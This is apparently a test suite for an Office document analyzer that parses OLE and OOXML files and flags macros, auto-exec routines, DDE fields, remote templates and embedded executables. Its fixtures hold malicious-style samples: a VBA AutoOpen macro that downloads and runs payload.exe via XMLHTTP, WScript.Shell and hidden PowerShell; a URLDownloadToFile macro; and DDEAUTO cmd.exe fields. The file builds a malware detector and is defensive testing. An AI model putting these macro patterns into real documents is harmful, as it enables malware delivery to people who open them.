import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import pino from 'pino';
import { analyzeOffice, extractChildren } from './analyze-office.js';
import { createOfficeAnalyzer } from './office-analyzer.js';
import { OleFile } from './ole-reader.js';
import {
  docxPackage,
  FMTID_DOC_SUMMARY,
  FMTID_SUMMARY,
  ole10Native,
  oleFile,
  propertySetStream,
  REL,
  vbaProjectStreams,
  zipFile,
} from './testing/office-fixtures.js';

type Info = Record<string, any>;

const MACRO = [
  'Attribute VB_Name = "ThisDocument"',
  'Sub AutoOpen()',
  '  Dim s As String',
  '  s = Chr(104) & Chr(116) & "tp://198.51.100.7/payload.exe"',
  '  Set x = CreateObject("MSXML2.XMLHTTP")',
  '  CreateObject("WScript.Shell").Run Environ("TEMP") & "\\a.exe"',
  '  Shell "powershell -enc " & "aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ=", vbHide',
  'End Sub',
  'Sub Document_Close()',
  "  ' Kill is only mentioned in this comment",
  'End Sub',
  '',
].join('\r\n');

const CREATED = new Date('2024-03-01T10:20:30Z');
const SAVED = new Date('2024-03-02T11:00:00Z');

function wordDocument(): Buffer {
  const text = Buffer.from('Hello \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14result\x15 world', 'latin1');
  return oleFile([
    ['WordDocument', Buffer.concat([Buffer.alloc(1024, 0x20), text, Buffer.alloc(4096 - text.length, 0)])],
    [
      '\x05SummaryInformation',
      propertySetStream(FMTID_SUMMARY, [
        [1, { type: 'i2', value: 1252 }],
        [2, { type: 'lpstr', value: 'Quarterly report' }],
        [4, { type: 'lpstr', value: 'Alice' }],
        [7, { type: 'lpstr', value: 'Normal.dotm' }],
        [8, { type: 'lpstr', value: 'Bob' }],
        [9, { type: 'lpstr', value: '3' }],
        [10, { type: 'duration', seconds: 600 }],
        [12, { type: 'filetime', value: CREATED }],
        [13, { type: 'filetime', value: SAVED }],
        [14, { type: 'i4', value: 2 }],
        [18, { type: 'lpstr', value: 'Microsoft Office Word' }],
      ]),
    ],
    ['\x05DocumentSummaryInformation', propertySetStream(FMTID_DOC_SUMMARY, [[1, { type: 'i2', value: 1252 }], [15, { type: 'lpstr', value: 'Example Corp' }]])],
    ['ObjectPool/_1234567890/\x01Ole10Native', ole10Native('invoice.exe', 'C:\\Users\\a\\invoice.exe', Buffer.from('MZ fake payload bytes'))],
    ...vbaProjectStreams([{ name: 'ThisDocument', code: MACRO, offset: 300 }, { name: 'Module2', code: 'Sub Helper()\r\nEnd Sub\r\n' }], 'Macros/'),
  ]);
}

/** Debian's olefile (python3-olefile) as the reference for streams and summary properties. */
function olefileView(file: string): { streams: Array<[string, number, string]>; meta: Record<string, unknown> } {
  const script = `
import sys, json, hashlib, olefile
ole = olefile.OleFileIO(sys.argv[1])
streams = [['/'.join(p), ole.get_size('/'.join(p)), hashlib.sha256(ole.openstream(p).read()).hexdigest()] for p in ole.listdir(streams=True, storages=False)]
m = ole.get_metadata()
meta = {k: (v.decode('latin1') if isinstance(v, bytes) else (v.strftime('%Y-%m-%d %H:%M:%S') if hasattr(v, 'strftime') else v)) for k, v in vars(m).items() if v is not None and not k.startswith('_')}
print(json.dumps({'streams': streams, 'meta': meta}, default=str))
`;
  return JSON.parse(execFileSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' }));
}

function withTempFile<T>(data: Buffer, fn: (file: string) => T): T {
  const dir = mkdtempSync(path.join(tmpdir(), 'office-test-'));
  try {
    const file = path.join(dir, 'sample.bin');
    writeFileSync(file, data);
    return fn(file);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('an OLE Word document: streams and summary properties agree with olefile', () => {
  const doc = wordDocument();
  const ref = withTempFile(doc, olefileView);
  const ole = new OleFile(doc);
  const ours = ole.entries.filter((e) => e.kind === 'stream').map((e) => [e.path, e.size, createHash('sha256').update(ole.read(e)).digest('hex')] as [string, number, string]);
  assert.deepEqual(new Set(ours.map((s) => JSON.stringify(s))), new Set(ref.streams.map((s) => JSON.stringify(s))));
  assert.ok(ref.streams.length >= 10);
  return analyzeOffice(doc).then(({ attributes }) => {
    const info = attributes.office_info as Info;
    const s = info.summary_info;
    assert.equal(s.title, ref.meta.title);
    assert.equal(s.author, ref.meta.author);
    assert.equal(s.last_author, ref.meta.last_saved_by);
    assert.equal(s.template, ref.meta.template);
    assert.equal(s.revision_number, ref.meta.revision_number);
    assert.equal(s.application_name, ref.meta.creating_application);
    assert.equal(s.creation_datetime, ref.meta.create_time);
    assert.equal(s.last_saved, ref.meta.last_saved_time);
    assert.equal(s.page_count, ref.meta.num_pages);
    assert.equal(s.code_page, 'Latin I');
    assert.equal(s.edit_time, 600);
    assert.equal(info.document_summary_info.company, ref.meta.company);
    assert.equal(info.document_type, 'doc');
  });
});

test('an OLE Word document: macros, auto-exec, keywords, DDE, embedded package and tags', async () => {
  const doc = wordDocument();
  const { attributes, tags } = await analyzeOffice(doc);
  const info = attributes.office_info as Info;
  assert.equal(info.ole.num_macros, 2);
  const main = info.ole.macros.find((m: Info) => m.vba_filename === 'ThisDocument.cls');
  assert.equal(main.vba_code, MACRO, 'module source after a p-code prefix (MODULEOFFSET) comes back whole');
  assert.equal(main.stream_path, 'Macros/VBA/ThisDocument');
  assert.deepEqual(info.ole.auto_exec.sort(), ['AutoOpen', 'Document_Close']);
  const words = new Set(main.keywords.map((k: Info) => `${k.type}:${k.keyword}`));
  for (const w of ['Suspicious:Chr', 'Suspicious:CreateObject', 'Suspicious:MSXML2.XMLHTTP', 'Suspicious:WScript.Shell', 'Suspicious:Environ', 'Suspicious:Shell', 'Suspicious:PowerShell', 'IOC:198.51.100.7', 'IOC:a.exe']) {
    assert.ok(words.has(w), `${w} in ${[...words].join(', ')}`);
  }
  assert.ok([...words].some((w) => /^IOC:.*payload\.exe$/.test(w as string)));
  assert.ok(!words.has('Suspicious:Kill'), 'keywords in comments are not counted');
  assert.ok(main.keywords.some((k: Info) => k.type === 'Base64 String' && k.keyword === 'hello world from base64'));
  assert.deepEqual(tags, ['auto-close', 'auto-open', 'create-ole', 'exe-pattern', 'macros', 'obfuscated', 'run-file']);
  assert.deepEqual(info.dde_links, ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"']);
  const embedded = info.embedded_objects[0];
  assert.equal(embedded.filename, 'invoice.exe');
  assert.equal(embedded.sha256, createHash('sha256').update('MZ fake payload bytes').digest('hex'));
  const children = await extractChildren(doc);
  assert.deepEqual(children.map((c) => [c.name, c.bytes.toString()]), [['invoice.exe', 'MZ fake payload bytes']]);
});

test('a macro-enabled docx: vbaProject.bin, remote template, DDEAUTO field, embedded object', async () => {
  const vba = oleFile(vbaProjectStreams([{ name: 'NewMacros', code: 'Sub Document_Open()\r\n  URLDownloadToFile 0, "https://example.test/x.exe", "x.exe", 0, 0\r\nEnd Sub\r\n' }]));
  const embeddedOle = oleFile([['\x01Ole10Native', ole10Native('run.bat', 'C:\\run.bat', Buffer.from('@echo hi'))]]);
  const body =
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe </w:instrText></w:r>' +
    '<w:r><w:instrText xml:space="preserve">"/k powershell.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' +
    '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>';
  const docx = docxPackage({
    body,
    macroEnabled: true,
    core: { 'dc:creator': 'Mallory', 'cp:lastModifiedBy': 'Eve', 'dcterms:created': '2024-01-02T03:04:05Z' },
    documentRels: [
      { id: 'rId1', type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
      { id: 'rId2', type: `${REL}/oleObject`, target: 'embeddings/oleObject1.bin' },
      { id: 'rId3', type: `${REL}/hyperlink`, target: 'https://example.test/?a=1&b=2', external: true },
    ],
    settingsRels: [{ id: 'rId9', type: `${REL}/attachedTemplate`, target: 'https://templates.example.test/t.dotm', external: true }],
    extra: [
      { name: 'word/vbaProject.bin', data: vba },
      { name: 'word/embeddings/oleObject1.bin', data: embeddedOle },
    ],
  });
  const { attributes, tags } = await analyzeOffice(docx);
  const info = attributes.openxml_info as Info;
  assert.equal(info.file_type, 'docm');
  assert.equal(info.type_of_document, 'Word');
  assert.ok(info.content_types.includes('application/vnd.ms-word.document.macroEnabled.main+xml'));
  assert.ok(info.rels.includes(`${REL}/attachedTemplate`));
  assert.equal(info.docprops_core['dc:creator'], 'Mallory');
  assert.equal(info.docprops_core['cp:lastModifiedBy'], 'Eve');
  assert.equal(info.docprops_app.Application, 'Microsoft Office Word');
  assert.equal(info.docprops_app.HeadingPairs, undefined, 'vectors are not flattened into text');
  assert.deepEqual(info.remote_template, ['https://templates.example.test/t.dotm']);
  assert.deepEqual(
    info.external_relationships.map((r: Info) => [r.source, r.type, r.target]),
    [
      ['word/document.xml', 'hyperlink', 'https://example.test/?a=1&b=2'],
      ['word/settings.xml', 'attachedTemplate', 'https://templates.example.test/t.dotm'],
    ].sort((a, b) => a[0]!.localeCompare(b[0]!)),
  );
  assert.equal(info.ole.num_macros, 1);
  assert.equal(info.ole.macros[0].subfilename, 'word/vbaProject.bin');
  assert.equal(info.ole.macros[0].stream_path, 'VBA/NewMacros');
  assert.deepEqual(info.ole.auto_exec, ['Document_Open']);
  assert.deepEqual(info.dde_links, ['DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k powershell.exe"']);
  assert.deepEqual(tags, ['auto-open', 'exe-pattern', 'macros', 'url-pattern']);
  assert.deepEqual(
    info.embedded_objects.map((o: Info) => o.filename ?? o.name),
    ['word/embeddings/oleObject1.bin', 'run.bat'],
  );
  const children = await extractChildren(docx);
  assert.deepEqual(children.map((c) => c.name), ['oleObject1.bin', 'run.bat']);
  assert.equal(children[1]!.bytes.toString(), '@echo hi');
});

test('a plain docx has no macros and no tags', async () => {
  const body = '<w:p><w:r><w:rPr><w:lang w:val="en-US" w:eastAsia="zh-CN"/></w:rPr><w:t>hello</w:t></w:r><w:r><w:rPr><w:lang w:val="en-US"/></w:rPr><w:t>x</w:t></w:r></w:p>';
  const { attributes, tags } = await analyzeOffice(docxPackage({ body }));
  const info = attributes.openxml_info as Info;
  assert.deepEqual(info.type_content, { languages: { 'en-us': 2, 'zh-cn': 1 } });
  assert.equal(info.file_type, 'docx');
  assert.equal(info.ole.num_macros, 0);
  assert.equal(info.dde_links, undefined);
  assert.deepEqual(tags, []);
});

test('Excel 4.0 macro sheets: BIFF8 BoundSheet8 in an OLE workbook and xl/macrosheets in OOXML', async () => {
  const boundsheet = (name: string, dt: number, state: number) => {
    const body = Buffer.concat([Buffer.from([0, 0, 0, 0, state, dt, name.length, 0]), Buffer.from(name, 'latin1')]);
    const h = Buffer.alloc(4);
    h.writeUInt16LE(0x0085, 0);
    h.writeUInt16LE(body.length, 2);
    return Buffer.concat([h, body]);
  };
  const bof = Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  const workbook = Buffer.concat([bof, boundsheet('Sheet1', 0, 0), boundsheet('Macro1', 1, 2), Buffer.from([0x0a, 0x00, 0x00, 0x00]), Buffer.alloc(4096)]);
  const xls = await analyzeOffice(oleFile([['Workbook', workbook]]));
  const info = xls.attributes.office_info as Info;
  assert.equal(info.document_type, 'xls');
  assert.deepEqual(info.excel_sheets, [
    { name: 'Sheet1', type: 'worksheet', state: 'visible' },
    { name: 'Macro1', type: 'macrosheet', state: 'very hidden' },
  ]);
  assert.deepEqual(info.xlm_macros, { macro_sheets: ['Macro1'] });
  assert.deepEqual(xls.tags, ['macros']);

  const xlsm = zipFile([
    { name: '[Content_Types].xml', data: Buffer.from('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>') },
    { name: '_rels/.rels', data: Buffer.from(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`) },
    { name: 'xl/workbook.xml', data: Buffer.from('<workbook><fileVersion appName="xl" lastEdited="7" lowestEdited="6" rupBuild="24430"/><calcPr calcId="191029"/><sheets><sheet name="Sheet1" sheetId="1"/><sheet name="Auto_Open" sheetId="2" state="hidden"/></sheets></workbook>') },
    { name: 'xl/macrosheets/sheet1.xml', data: Buffer.from('<xm:macrosheet xmlns:xm="x"/>') },
  ]);
  const x = await analyzeOffice(xlsm);
  const xi = x.attributes.openxml_info as Info;
  assert.equal(xi.file_type, 'xlsm');
  assert.deepEqual(xi.xlm_macros, { macro_sheets: ['xl/macrosheets/sheet1.xml'] });
  assert.deepEqual(xi.type_content.workbook, { sheets: 2, lastEdited: '7', lowestEdited: '6', rupBuild: '24430', calcPr: '191029' });
  assert.deepEqual(x.tags, ['macros']);
});

test('files that are neither OLE nor OOXML give no attributes', async () => {
  assert.deepEqual(await analyzeOffice(Buffer.from('just text')), { attributes: {}, tags: [] });
  assert.deepEqual(await analyzeOffice(zipFile([{ name: 'a.txt', data: Buffer.from('x') }])), { attributes: {}, tags: [] });
});

test('the analyzer runs in its worker thread and returns office_info for a file on disk', async () => {
  const analyzer = createOfficeAnalyzer({ logger: pino({ level: 'silent' }) });
  const ready = await analyzer.start();
  assert.equal(ready.ready, true, ready.detail);
  try {
    const dir = mkdtempSync(path.join(tmpdir(), 'office-analyzer-'));
    try {
      const file = path.join(dir, 'doc.doc');
      const doc = wordDocument();
      writeFileSync(file, doc);
      const out = await analyzer.analyze({ path: file, size: doc.length, md5: '', sha1: '', sha256: '', names: [] }, new AbortController().signal);
      assert.equal((out.attributes.office_info as Info).ole.num_macros, 2);
      assert.ok(out.tags?.includes('macros'));
      writeFileSync(file, Buffer.concat([doc.subarray(0, 8), Buffer.alloc(100)]));
      const broken = await analyzer.analyze({ path: file, size: 108, md5: '', sha1: '', sha256: '', names: [] }, new AbortController().signal);
      assert.deepEqual(broken.attributes, {}, 'a malformed document contributes nothing');
      writeFileSync(file, doc);
      const children = await analyzer.extractChildren({ path: file, size: doc.length, md5: '', sha1: '', sha256: '', names: [] }, new AbortController().signal);
      assert.deepEqual(children.map((c) => [c.name, c.bytes.toString()]), [['invoice.exe', 'MZ fake payload bytes']]);
      const deadline = new Error('deadline');
      await assert.rejects(analyzer.analyze({ path: file, size: 108, md5: '', sha1: '', sha256: '', names: [] }, AbortSignal.abort(deadline)), (err) => err === deadline);
      assert.equal(analyzer.manifest.accepts.typeTags?.includes('doc'), true);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  } finally {
    await analyzer.close();
  }
});

test('Debian clamav-testfiles OLE documents: streams and properties as olefile reads them, the embedded clam.exe extracted', async () => {
  const dir = '/usr/share/clamav-testfiles';
  for (const name of ['clam.ole.doc', 'clam.ppt']) {
    const file = path.join(dir, name);
    const data = readFileSync(file);
    const ref = olefileView(file);
    const ole = new OleFile(data);
    const ours = ole.entries.filter((e) => e.kind === 'stream').map((e) => JSON.stringify([e.path, e.size, createHash('sha256').update(ole.read(e)).digest('hex')]));
    assert.deepEqual(new Set(ours), new Set(ref.streams.map((s) => JSON.stringify(s))), name);
    const info = (await analyzeOffice(data)).attributes.office_info as Info;
    assert.equal(info.summary_info.creation_datetime, String(ref.meta.create_time).slice(0, 19), name);
    assert.equal(info.summary_info.application_name, ref.meta.creating_application, name);
    assert.equal(info.summary_info.revision_number, ref.meta.revision_number, name);
  }
  const children = await extractChildren(readFileSync(path.join(dir, 'clam.ole.doc')));
  const clam = createHash('sha256').update(readFileSync(path.join(dir, 'clam.exe'))).digest('hex');
  assert.deepEqual(children.map((c) => [c.name.toLowerCase(), createHash('sha256').update(c.bytes).digest('hex')]), [['clam.exe', clam]]);
});

test('a DDE field written as w:fldSimple is found; other fields are not reported', async () => {
  const body = '<w:p><w:fldSimple w:instr=" DDE &quot;c:\\\\windows\\\\system32\\\\cmd.exe&quot; &quot;/c calc&quot; "/><w:fldSimple w:instr=" HYPERLINK &quot;https://example.test&quot; "/></w:p>';
  const info = (await analyzeOffice(docxPackage({ body }))).attributes.openxml_info as Info;
  assert.deepEqual(info.dde_links, ['DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc"']);
});

test('an encrypted OOXML document (EncryptionInfo + EncryptedPackage in OLE) is marked encrypted', async () => {
  const info = (await analyzeOffice(oleFile([['EncryptionInfo', Buffer.alloc(200, 1)], ['EncryptedPackage', Buffer.alloc(5000, 2)]]))).attributes.office_info as Info;
  assert.equal(info.encrypted, true);
  assert.equal(info.document_type, 'encrypted-ooxml');
});

test('a project in code page 1251: module names and code decode from Cyrillic bytes', async () => {
  const code = 'Sub Макрос()\r\n  MsgBox "Привет"\r\nEnd Sub\r\n';
  const doc = oleFile(vbaProjectStreams([{ name: 'Модуль1', code }], 'Macros/', 1251));
  const info = (await analyzeOffice(doc)).attributes.office_info as Info;
  assert.deepEqual(info.ole.macros.map((m: Info) => [m.vba_filename, m.stream_path, m.vba_code]), [['Модуль1.bas', 'Macros/VBA/Модуль1', code]]);
});

test('an embedded document kept as a storage (Word ObjectPool) becomes a child compound file with its streams', async () => {
  const workbook = Buffer.alloc(6000, 7);
  const doc = oleFile([
    ['WordDocument', Buffer.alloc(5000, 0x20)],
    ['ObjectPool/_1700000000/Workbook', workbook],
    ['ObjectPool/_1700000000/\x01CompObj', Buffer.from('compobj')],
  ]);
  // cfb's writer takes a CLSID as 32 hex digits in on-disk order: Excel's 00020820-0000-0000-C000-000000000046.
  const withClsid = (() => {
    const ole = new OleFile(doc);
    const storage = ole.find('ObjectPool/_1700000000')!;
    const at = (doc.readUInt32LE(0x30) + 1) * 512 + storage.sid * 128 + 0x50;
    const out = Buffer.from(doc);
    Buffer.from('2008020000000000c000000000000046', 'hex').copy(out, at);
    return out;
  })();
  const info = (await analyzeOffice(withClsid)).attributes.office_info as Info;
  const embedded = info.embedded_objects.find((o: Info) => o.name === 'ObjectPool/_1700000000');
  assert.equal(embedded.clsid_literal, 'Microsoft Excel 97-2003 Worksheet');
  const [child] = await extractChildren(withClsid);
  assert.equal(child!.name, '_1700000000');
  const inner = new OleFile(child!.bytes);
  assert.ok(inner.read(inner.find('Workbook')!).equals(workbook));
  assert.equal(inner.read(inner.find('\x01CompObj')!).toString(), 'compobj');
  assert.equal(inner.entries[0]!.clsid, '00020820-0000-0000-c000-000000000046');
});

test('a PowerPoint 97-2003 VBA project, zlib-compressed in an ExOleObjStg record, is extracted', async () => {
  const code = 'Sub Auto_Open()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n';
  const project = oleFile(vbaProjectStreams([{ name: 'Module1', code }]));
  const zipped = deflateSync(project);
  const header = Buffer.alloc(12);
  header.writeUInt16LE(0x0010, 0);
  header.writeUInt16LE(0x1011, 2);
  header.writeUInt32LE(zipped.length + 4, 4);
  header.writeUInt32LE(project.length, 8);
  const pptStream = Buffer.concat([Buffer.alloc(300, 0x11), header, zipped, Buffer.alloc(5000, 0)]);
  const info = (await analyzeOffice(oleFile([['PowerPoint Document', pptStream], ['Current User', Buffer.alloc(40)]]))).attributes.office_info as Info;
  assert.equal(info.document_type, 'ppt');
  assert.deepEqual(info.ole.macros.map((m: Info) => [m.vba_filename, m.subfilename, m.vba_code]), [['Module1.bas', 'PowerPoint Document', code]]);
  assert.deepEqual(info.tags, ['auto-open', 'exe-pattern', 'macros', 'run-file']);
});
